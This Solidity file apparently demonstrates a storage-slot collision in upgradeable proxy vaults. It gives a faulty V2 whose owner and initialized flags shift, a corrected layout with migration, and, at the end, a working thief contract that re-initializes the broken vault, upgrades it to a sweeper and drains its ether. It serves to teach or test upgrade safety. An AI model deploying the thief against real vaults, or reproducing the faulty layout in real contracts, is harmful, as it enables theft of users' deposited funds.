// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

/// Keeps coins behind a proxy whose implementation decides about upgrades. Written out, without a library.
abstract contract PikeUpgradeable {
    // keccak256("eip1967.proxy.implementation") - 1
    bytes32 internal constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    event Upgraded(address indexed implementation);

    function swapCode(address implementation, bytes calldata data) internal {
        assembly { sstore(SLOT, implementation) }
        emit Upgraded(implementation);
        if (data.length > 0) {
            (bool ok,) = implementation.delegatecall(data);
            require(ok, "call failed");
        }
    }
}

contract PikeV1 is PikeUpgradeable {
    address public owner;
    bool private initialized;
    address public guardian;
    uint256 public total;
    mapping(address => uint256) public creditOf;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    function initialize(address owner_, address guardian_) external {
        require(!initialized, "initialized");
        (owner, initialized, guardian) = (owner_, true, guardian_);
    }

    function deposit() external payable {
        creditOf[msg.sender] += msg.value;
        total += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 amount) external {
        creditOf[msg.sender] -= amount;
        total -= amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "not paid");
        emit Withdraw(msg.sender, amount);
    }

    function upgradeToAndCall(address implementation, bytes calldata data) external {
        require(msg.sender == owner, "not the owner");
        swapCode(implementation, data);
    }
}

/// The next version has a gateway before everything else. Who is the owner, and whether there is one, moved by a slot, to
/// where the guardian stood.
contract PikeV2 is PikeUpgradeable {
    address public gateway;
    address public owner;
    bool private initialized;
    uint256 public total;
    mapping(address => uint256) public creditOf;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    function initialize(address owner_, address gateway_) external {
        require(!initialized, "initialized");
        (owner, initialized, gateway) = (owner_, true, gateway_);
    }

    function deposit() external payable {
        creditOf[msg.sender] += msg.value;
        total += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 amount) external {
        creditOf[msg.sender] -= amount;
        total -= amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "not paid");
        emit Withdraw(msg.sender, amount);
    }

    function upgradeToAndCall(address implementation, bytes calldata data) external {
        require(msg.sender == owner, "not the owner");
        swapCode(implementation, data);
    }
}

/// The same without the slip: what is new stands behind what was there.
contract PikeV2Right is PikeUpgradeable {
    address public owner;
    bool private initialized;
    address public guardian;
    uint256 public total;
    mapping(address => uint256) public creditOf;
    address public gateway;
    address public successor;

    event Deposit(address indexed who, uint256 amount);
    event Migrated(address indexed successor, uint256 amount);

    function setGateway(address gateway_) external {
        require(msg.sender == owner || msg.sender == address(this), "not the owner");
        gateway = gateway_;
    }

    function deposit() external payable {
        creditOf[msg.sender] += msg.value;
        total += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    /// All that is here goes to the next vault, which knows who has what.
    function migrate(PikeSuccessor successor_, address[] calldata who) external {
        require(msg.sender == owner, "not the owner");
        successor = address(successor_);
        uint256[] memory credits = new uint256[](who.length);
        for (uint256 i = 0; i < who.length; i++) {
            credits[i] = creditOf[who[i]];
            creditOf[who[i]] = 0;
        }
        uint256 amount = address(this).balance;
        successor_.take{value: amount}(who, credits);
        emit Migrated(address(successor_), amount);
    }

    function upgradeToAndCall(address implementation, bytes calldata data) external {
        require(msg.sender == owner, "not the owner");
        swapCode(implementation, data);
    }
}

contract PikeSuccessor {
    address public immutable old;
    mapping(address => uint256) public creditOf;

    constructor(address old_) {
        old = old_;
    }

    function take(address[] calldata who, uint256[] calldata credits) external payable {
        require(msg.sender == old, "not the old one");
        for (uint256 i = 0; i < who.length; i++) creditOf[who[i]] = credits[i];
    }

    function withdraw(uint256 amount) external {
        creditOf[msg.sender] -= amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "not paid");
    }
}

/// Makes itself the owner of what believes that it has none, and then the code.
contract PikeThief {
    function run(PikeV2 vault, uint256 amount, address payable payee) external {
        if (vault.owner() != address(this)) {
            vault.initialize(address(this), address(this));
            vault.upgradeToAndCall(address(new PikeSweeper()), "");
        }
        PikeSweeper(address(vault)).sweep(amount, payee);
    }
}

contract PikeSweeper {
    address private gateway;
    address private owner_;

    function owner() external view returns (address) {
        return owner_;
    }

    function sweep(uint256 amount, address payable payee) external {
        require(msg.sender == owner_);
        (bool ok,) = payee.call{value: amount}("");
        require(ok);
    }
}
